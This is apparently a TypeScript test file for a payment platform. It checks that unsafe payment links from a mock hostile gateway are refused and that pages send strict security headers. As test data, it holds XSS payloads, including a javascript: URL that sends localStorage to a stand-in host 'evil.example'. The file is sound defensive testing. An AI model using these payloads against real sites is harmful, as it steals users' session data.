// Pay pages and headers (issue 8, defect 4): a gateway — or a shop's own
// gateway account — cannot get a script onto the platform's origin through the
// payment link it answers, and every HTML page carries a strict CSP.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adminSession, bearer, checkout, createApiKey, createProduct, importKeys, keys, setupTestApp, signupMerchant, type TestApp } from './helpers.ts';

let t: TestApp;
let admin: Record<string, string>;
let shop: string;
let auth: Record<string, string>;
let payurl = 'javascript:fetch("//evil.example/"+JSON.stringify(localStorage))';
let evil: http.Server;

beforeAll(async () => {
  // An epay "gateway" whose API answers whatever payment link we tell it to.
  evil = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ code: 1, msg: 'ok', trade_no: `T${Date.now()}`, payurl }));
    });
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  t = await setupTestApp();
  admin = await adminSession(t);
  const res = await t.app.inject({
    method: 'PUT', url: '/api/v1/admin/gateways/epay', headers: admin,
    payload: { enabled: true, settings: { version: 1, api_url: `http://127.0.0.1:${(evil.address() as AddressInfo).port}/`, pid: '1001', key: 'a-long-enough-key', mode: 'api' } },
  });
  expect(res.statusCode, res.body).toBe(200);
  const m = await signupMerchant(t);
  shop = m.slug;
  auth = bearer(await createApiKey(t, m));
});
afterAll(() => new Promise<void>((r) => evil.close(() => r())));

async function buy() {
  const p = await createProduct(t, auth);
  await importKeys(t, auth, p.id, keys(1));
  return { product: p, res: await checkout(t, shop, p.id, { gateway: 'epay', method: 'alipay' }) };
}

describe('payment links from a gateway', () => {
  for (const link of [
    'javascript:fetch("//evil.example/"+JSON.stringify(localStorage))',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '/o/someone-elses-order',
    'vbscript:msgbox(1)',
  ]) {
    it(`refuses ${link.slice(0, 24)}…: no payment opens, the order is cancelled and its key goes back`, async () => {
      payurl = link;
      const { product, res } = await buy();
      expect(res.statusCode, res.body).toBe(502);
      expect(res.json().error.code).toBe('gateway_error');
      expect(res.body).not.toContain(link);
      const [o] = await t.q<{ status: string }>(`select o.status from orders o join order_items i on i.order_id = o.id where i.product_id = $1`, [product.id]);
      expect(o!.status).toBe('cancelled');
      const stock = (await t.app.inject({ method: 'GET', url: `/api/v1/products/${product.id}`, headers: auth })).json().stock;
      expect(stock.available).toBe(1);
    });
  }

  it('still opens real web pages and payment-app links', async () => {
    for (const link of ['https://pay.example.com/cashier?id=1', 'alipays://platformapi/startapp?appId=20000067']) {
      payurl = link;
      const { res } = await buy();
      expect(res.statusCode, res.body).toBe(201);
      const page = await t.app.inject({ method: 'GET', url: new URL(res.json().payment.pay_url).pathname });
      expect(page.body).toContain(`href="${link.replace(/&/g, '&amp;')}"`);
    }
  });

  it('does not render an unsafe link stored before this check existed', async () => {
    payurl = 'https://pay.example.com/ok';
    const { res } = await buy();
    const payment = res.json().payment;
    await t.q(`update payments set action = $2 where id = $1`, [payment.id, JSON.stringify({ kind: 'redirect', url: 'javascript:alert(1)' })]);
    const page = await t.app.inject({ method: 'GET', url: `/pay/${payment.id}` });
    expect(page.body).not.toContain('javascript:');
  });

  it('refuses plain http links in production unless the operator allows them', async () => {
    const prod = await setupTestApp({ NODE_ENV: 'production', XIAOPU_SANDBOX_ENABLED: '1' });
    expect(prod.config.gatewayHttpUrls).toBe(false);
    const allowed = await setupTestApp({ NODE_ENV: 'production', XIAOPU_GATEWAY_HTTP_URLS: '1' });
    expect(allowed.config.gatewayHttpUrls).toBe(true);
  });
});

describe('headers on every page', () => {
  function csp(h: Record<string, unknown>): string {
    return String(h['content-security-policy'] ?? '');
  }

  it('gives the pay page a nonce for its one script, posts forms only to the gateway, and forbids framing', async () => {
    payurl = 'https://pay.example.com/cashier';
    const { res } = await buy();
    const page = await t.app.inject({ method: 'GET', url: new URL(res.json().payment.pay_url).pathname });
    const policy = csp(page.headers);
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
    expect(nonce).toBeTruthy();
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toContain('unsafe-inline\' \'nonce');
    expect(policy).toMatch(/script-src 'self' 'nonce-[^']+'(;|$)/);
    const scripts = [...page.body.matchAll(/<script([^>]*)>/g)].map((m) => m[1]);
    expect(scripts.length).toBeGreaterThan(0);
    for (const attrs of scripts) expect(attrs).toContain(`nonce="${nonce}"`);
    expect(page.headers['x-content-type-options']).toBe('nosniff');
    expect(page.headers['x-frame-options']).toBe('DENY');
  });

  it('covers the sandbox page, the web app, the API docs and JSON answers', async () => {
    const p = await createProduct(t, auth);
    await importKeys(t, auth, p.id, keys(1));
    const c = (await checkout(t, shop, p.id)).json();
    const pages = [new URL(c.payment.pay_url).pathname, `/s/${shop}`, '/console', '/docs/', '/api/v1/storefront/' + shop + '/products'];
    for (const url of pages) {
      const r = await t.app.inject({ method: 'GET', url });
      expect(r.statusCode, url).toBeLessThan(400);
      const policy = csp(r.headers);
      expect(policy, url).toContain("frame-ancestors 'none'");
      expect(policy, url).not.toMatch(/script-src[^;]*'unsafe-inline'/);
      expect(r.headers['x-content-type-options'], url).toBe('nosniff');
    }
  });

  it('sends HSTS in production only', async () => {
    const dev = await t.app.inject({ method: 'GET', url: '/healthz' });
    expect(dev.headers['strict-transport-security']).toBeUndefined();
    const prod = await setupTestApp({ NODE_ENV: 'production' });
    const r = await prod.app.inject({ method: 'GET', url: '/healthz' });
    expect(r.headers['strict-transport-security']).toMatch(/max-age=31536000/);
  });
});
